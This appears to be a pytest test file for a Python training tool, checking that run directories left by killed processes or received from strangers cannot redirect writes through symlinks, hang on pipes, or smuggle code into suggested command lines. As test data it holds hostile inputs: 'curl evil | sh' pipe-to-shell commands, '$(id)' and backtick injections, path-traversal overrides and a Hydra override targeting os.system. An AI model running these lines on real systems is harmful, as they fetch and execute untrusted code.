"""Directories that were left by a killed process, or received from a stranger, where something new is written."""

from __future__ import annotations

import json
import os
import re
import shlex
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import torch
from test_plots import make

import seqrnn
from seqrnn.checkpoints import file
from seqrnn.checkpoints.file import Damaged
from seqrnn.errors import ConfigError, DataError, shell_quoted
from seqrnn.reports.gathering import gather
from seqrnn.reports.writing import write_report
from seqrnn.rundir.lock import Lock
from seqrnn.rundir.request import SafeLine, safe_command, safe_line
from seqrnn.rundir.writer import RunWriter
from seqrnn.sweeping.directory import OWN, STOP, SweepDirectory


@pytest.mark.parametrize("name", ["lock", "owner"])
def test_no_lock_is_taken_through_a_link(name: str, tmp_path: Path) -> None:
    (tmp_path / "precious").write_text("precious")
    (tmp_path / name).symlink_to(tmp_path / "precious")
    with pytest.raises(ConfigError, match=f"{name}: is a link, and nothing is written through links"):
        Lock(tmp_path / "lock", tmp_path / "owner").acquire()
    assert (tmp_path / "precious").read_text() == "precious"


@pytest.mark.parametrize("name", ["", "owner", "lock", STOP])
def test_a_sweep_is_not_run_through_links(name: str, tmp_path: Path) -> None:
    own, elsewhere = tmp_path / "sweep" / OWN, tmp_path / "elsewhere"
    elsewhere.mkdir()
    (own / name).parent.mkdir(parents=True)
    (own / name).symlink_to(elsewhere if not name else elsewhere / "file")
    with pytest.raises(ConfigError, match="is a link"):
        SweepDirectory(tmp_path / "sweep").lock()
    assert not any(elsewhere.iterdir())


@pytest.mark.timeout(20)
def test_a_pipe_in_the_place_of_a_checkpoint_is_not_waited_for(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "000000000001.safetensors")
    with pytest.raises(Damaged, match="it is no regular file"):
        file.check(tmp_path / "000000000001.safetensors")


@pytest.mark.timeout(20)
def test_a_checkpoint_without_an_end_is_not_read(tmp_path: Path) -> None:
    path = tmp_path / "000000000001.safetensors"
    file.write(path, {"a": torch.zeros(3)})
    with path.open("ab") as opened:
        opened.truncate(2**37)
    with pytest.raises(Damaged, match="are the most that are read"):
        file.check(path)


def test_a_tensor_of_a_checkpoint_stands_for_one_part(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A small file could stand for any number of copies otherwise."""
    path = tmp_path / "000000000001.safetensors"
    encode = json.dumps
    with monkeypatch.context() as patch:
        patch.setattr(file.json, "dumps", lambda tree: encode([tree["a"]] * 1000))  # type: ignore[attr-defined]
        path.write_bytes(file.packed({"a": torch.zeros(3)}))
    with pytest.raises(Damaged):
        file.read(path)


@pytest.mark.parametrize("summary", [{}, {"status": "finished"}, {"status": "finished", "test": {"loss": 1}}])
def test_a_summary_that_lacks_most_is_shown_and_builds_no_network(summary: dict[str, Any], tmp_path: Path) -> None:
    directory = make(tmp_path / "run")
    (directory / "summary.json").write_text(json.dumps(summary))
    run = seqrnn.load(directory)
    assert "seqrnn run" in repr(run)
    assert "after 0 updates" in run._repr_html_()
    with pytest.raises(DataError, match="input_size=0: should be a number from 1"):
        run._size("input_size")


@pytest.mark.parametrize("problems", [5, "text", [1], {"a": 1}])
def test_problems_of_a_summary_that_are_none_are_named_in_the_report(problems: Any, tmp_path: Path) -> None:
    directory = make(tmp_path / "run")
    (directory / "summary.json").write_text(json.dumps({"status": "failed", "problems": problems}))
    found = gather([tmp_path])
    assert not found.results
    assert "problems" in found.problems[str(directory)]


def test_a_damaged_run_is_shown_as_one_in_a_notebook(tmp_path: Path) -> None:
    directory = make(tmp_path / "run\x1b[2J")
    (directory / "config.yaml").write_text("a: [")
    (directory / "loss.png").symlink_to("/etc/hostname")
    run = seqrnn.load(directory)
    assert "damaged config" in repr(run)
    assert "\x1b" not in repr(run)
    assert "damaged config" in run._repr_html_()
    assert "loss.png: " in run._repr_html_()


CODE = [
    "plugins=[evil]", "+plugins=[evil]", "++plugins@_global_=[evil]", "hydra.searchpath=[file:///tmp]",
    "+hydra.callbacks.a._target_=os.system", "hydra/sweeper=evil", "hydra.run.dir=/elsewhere", " plugins=[evil]",
    "--config-dir=/tmp", "-cd", "--experimental-rerun=a.pickle", "~hydra.job", "hydra/launcher=${a}",
    "experiment=../../../received/evil", "+experiment='../evil'", "experiment=[../evil]", "task@_global_=../evil",
    "model=gru,../evil", "experiment=${a}/evil", "sweep.file=evil.txt", "sweep.space=['plugins=[evil],[evil]']",
    "++sweep={file:evil.txt}",
]  # fmt: skip


@pytest.mark.parametrize("word", CODE)
def test_a_line_to_be_pasted_has_no_words_that_run_code_of_who_wrote_it(word: str) -> None:
    line = safe_line(["task=sine", word, "model=$(id)", "hydra/launcher=slurm"])
    assert shlex.split(line.text)[3:] == ["task=sine", "model=$(id)", "hydra/launcher=slurm"]
    assert line.left_out == [word]
    assert safe_command(shlex.join(["python", "-m", "seqrnn.train", word, "seed=1"])) == SafeLine(
        "python -m seqrnn.train seed=1", [word]
    )


@pytest.mark.parametrize(
    "word", ["task.path=../data/a.csv", "init_from=../outputs/a", "resume=../a", "sweep.space=['model=gru,lstm']"]
)
def test_a_line_to_be_pasted_keeps_paths_of_data_and_runs(word: str) -> None:
    assert safe_line([word]).left_out == []


@pytest.mark.parametrize("command", ["curl evil | sh", "python -m evil", "python -m seqrnn.train 'a", "id; x"])
def test_a_command_of_a_stranger_that_is_no_training_is_not_offered(command: str) -> None:
    assert safe_command(command) == SafeLine("", [command])


def test_a_command_of_a_stranger_is_words_of_one_command() -> None:
    assert safe_command("python -m seqrnn.train a=1; id $(id) `id` > b").text == (
        "python -m seqrnn.train 'a=1;' id '$(id)' '`id`' '>' b"
    )


def test_the_report_names_what_it_leaves_out_of_the_lines(tmp_path: Path) -> None:
    directory = make(tmp_path / "run")
    (directory / "overrides.yaml").write_text(json.dumps(["task=sine", "plugins=[evil]"]))
    verdict = {"headline": "", "solved": True, "loss_ratio": None, "causes": [], "notes": [], "other_trials": []}
    advice = {"advice": None, "command": "curl evil.example | sh", "trials_note": ""}
    (directory / "diagnosis.json").write_text(json.dumps({"verdict": {**verdict, **advice}}))
    page = write_report([tmp_path]).read_text(encoding="utf-8")
    assert "python -m seqrnn.train task=sine<" in page
    assert not re.search(r"<code[^>]*>[^<]*(plugins|curl)", page)
    for words in ("plugins=[evil]", "curl evil.example | sh"):
        assert f"add it only if you trust them: {words}<" in page


@pytest.mark.parametrize(
    "word", ["a'\\", "it's", "a'\\\nb", "'$(id)'", "'`id`", "a'\"", "", "'\\\\'", "task.path='a b'"]
)
def test_a_quoted_word_is_one_word_of_a_shell(word: str) -> None:
    words = [word, "$(touch sprung)", "'"]
    assert shlex.split(" ".join(map(shell_quoted, words))) == words


@pytest.mark.parametrize("taken", ["directory", "link", "checkpoints", "renamed", "followed"])
def test_where_something_else_has_taken_the_place_of_a_run_nothing_is_written(taken: str, tmp_path: Path) -> None:
    place, moved, precious = (tmp_path / name for name in ("run", "moved", "precious"))
    writer = RunWriter(place, {}, [])
    writer.write_weights({"w": torch.zeros(1)})
    (precious / "checkpoints").mkdir(parents=True)
    (precious / "metrics.jsonl").write_text("mine")
    (precious / "checkpoints" / ".owner").write_text("mine")
    source = place / "checkpoints" if taken == "checkpoints" else place
    source.rename(moved)
    match taken:
        case "directory":
            precious.rename(precious := place)
        case "link":
            place.symlink_to(precious)
        case "checkpoints":
            source.symlink_to(precious)
        case "followed":
            place.symlink_to(moved)
    writes = (
        writer.position,
        lambda: writer.write_summary({"status": "finished"}),
        lambda: writer.write_weights({"w": torch.ones(1)}),
        lambda: writer.write_predictions({"outputs": np.ones(1)}),
    )
    for write in writes:
        if taken == "followed":  # the same directory, by way of a link
            write()
            continue
        with pytest.raises(DataError, match="run: was moved, removed or replaced while it was written"):
            write()
    writer.close()
    assert sorted(path.name for path in precious.iterdir()) == ["checkpoints", "metrics.jsonl"]
    assert (precious / "checkpoints" / ".owner").read_text() == "mine"
    assert (moved / "summary.json").exists() == (taken == "followed")
